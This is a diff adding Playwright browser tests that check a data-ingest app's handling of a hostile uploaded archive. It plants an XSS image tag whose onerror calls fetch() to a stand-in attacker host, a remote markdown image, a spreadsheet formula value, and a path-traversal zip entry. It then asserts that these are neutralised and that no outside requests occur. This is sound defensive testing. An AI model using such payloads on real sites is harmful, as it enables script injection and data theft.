@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import re
+from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
 
 from playwright.sync_api import BrowserContext, Locator, Page, expect
@@ -10,7 +12,9 @@ from playwright.sync_api import BrowserContext, Locator, Page, expect
 from components.ingest.grids import MOST_ROWS
 from tests.browser.navigation import go_to
 from tests.browser.visit import Visit, visiting
-from tests.ingest.archives import with_entry
+from tests.browser.widgets import grid
+from tests.ingest.archives import with_entry, zipped
+from tests.toy.breaking import change
 
 _TABLE = (
     "Country;Position;Date\n"
@@ -19,6 +23,8 @@ _TABLE = (
     "Atlantis;ally;15/10/2025\n"
     "Türkiye;wavering;16/10/2025\n"
 ).encode("cp1252")
+_IMAGE = "<img src=//evil.example/x.png onerror=fetch('//evil.example')>"
+_PICTURE = "![kite picture](https://evil.example/x.png)"
 _BUILT_IN = "Who backs Suva?"
 # A machine that is busy takes long for the largest table; that is no fault of the page.
 _LONG_MS = 300_000
@@ -121,3 +127,38 @@ def test_a_hostile_archive_gives_one_fault_and_no_case(visit: Visit) -> None:
     page = _bring(visit, "case.zip", with_entry("../case.toml", b"title = 'x'"))
     expect(page.get_by_role("heading", name="1 fault to mend")).to_be_visible()
     expect(page.get_by_role("button", name=re.compile("map"))).to_have_count(0)
+
+
+def _listed(page: Page) -> set[str]:
+    """Return the cells of the list of faults, as they are read aloud."""
+    cells = grid(page).locator("tbody tr td")
+    expect(cells.first).not_to_be_empty()
+    return {*cells.all_text_contents()}
+
+
+def _faulty_rows(page: Page, table: str) -> list[dict[str, str]]:
+    with page.expect_download() as download:
+        page.get_by_role("button", name=f"Faulty rows of {table} with their faults").click()
+    with Path(download.value.path()).open(encoding="utf-8-sig", newline="") as lines:
+        return list(csv.DictReader(lines))
+
+
+def test_a_broken_archive_lists_its_faults_and_gives_its_faulty_rows(
+    visit: Visit, toy_folder: Path
+) -> None:
+    number = change(toy_folder, "stances", "ST06", stance=_IMAGE, summary=_PICTURE, actor_id="=1")
+    files = {
+        str(file.relative_to(toy_folder)): file.read_bytes()
+        for file in toy_folder.rglob("*")
+        if file.is_file()
+    }
+    page = _bring(visit, "case.zip", zipped(files))
+    expect(page.get_by_role("heading", name=re.compile("faults? to mend"))).to_be_visible()
+    visit.settle()
+    said = _listed(page)
+    assert {"stances", str(number), "actor_id"} <= said
+    assert page.locator("[src*=evil], [href*=evil]").count() == 0
+    (row,) = _faulty_rows(page, "stances")
+    assert (row["row"], row["actor_id"], row["stance"]) == (str(number), "'=1", _IMAGE)
+    assert "actor_id: found" in row["faults"]
+    assert visit.asked_of_others() == []
